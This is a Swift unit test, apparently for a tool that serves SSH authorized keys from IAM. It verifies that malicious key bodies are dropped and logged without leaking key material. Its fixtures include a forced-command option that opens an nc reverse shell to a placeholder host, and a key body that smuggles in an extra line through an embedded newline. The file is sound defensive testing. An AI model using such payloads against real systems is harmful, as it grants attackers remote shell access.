import Testing

@testable import AuthorizedKeys
@testable import TestSupport

/// Key bodies from IAM that would inject options or extra lines never reach sshd.
@Suite struct KeyCommandHostileBodyTests {
    @Test func hostileBodyNeverReachesStandardOutput() {
        let harness = KeyCommandHarness()
        harness.iam.setKeys(
            "alice",
            [
                .init(id: "BAD", body: "command=\"nc -e /bin/sh evil 1\" " + TestKeys.ed25519),
                .init(id: "NL", body: TestKeys.ecdsa + "\nssh-ed25519 AAAAinjected"),
            ])
        let outcome = harness.run()
        #expect(outcome.output.isEmpty)
        let warnings = harness.log.all.filter { $0.hasPrefix("warning: IAM SSH key dropped") }
        #expect(warnings.count == 2)
        #expect(warnings.allSatisfy { !$0.contains("AAAA") })
    }
}
